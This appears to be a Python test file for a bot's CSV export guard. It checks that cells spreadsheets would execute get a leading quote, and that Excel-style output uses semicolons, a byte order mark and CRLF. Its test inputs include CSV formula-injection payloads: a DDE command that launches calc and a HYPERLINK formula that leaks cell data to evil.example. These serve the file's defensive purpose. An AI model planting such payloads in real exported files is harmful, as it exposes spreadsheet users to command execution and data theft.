"""The one guard every CSV cell passes: formulas are shown as text, plain numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from bot.services.spreadsheet import csv_text, guard_cell


@pytest.mark.parametrize(
    "hostile",
    ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1,"x")', "+SUM(1+1)", "-2+3", "@SUM(1)",
     "\t=1+1", "\r=1+1", "\uff1d1+1", "-", "+46 8 123 456"],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(hostile: str) -> None:
    assert guard_cell(hostile) == "'" + hostile


@pytest.mark.parametrize("harmless", ["Mörby Bageri AB", "anna@bageri.example", "-5", "3,5", "12", "", "a=b"])
def test_ordinary_text_and_plain_numbers_are_left_alone(harmless: str) -> None:
    assert guard_cell(harmless) == harmless


def test_the_excel_variant_has_semicolons_a_byte_order_mark_and_crlf() -> None:
    text = csv_text(["namn", "svar"], [["Åsa", "=1+1"], ["Bo", "ja; nej"]], excel=True)
    assert text.startswith("\ufeffnamn;svar\r\n")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")) == [
        ["namn", "svar"], ["Åsa", "'=1+1"], ["Bo", "ja; nej"]]
    assert csv_text(["a"], [["1"]]) == "a\n1\n"
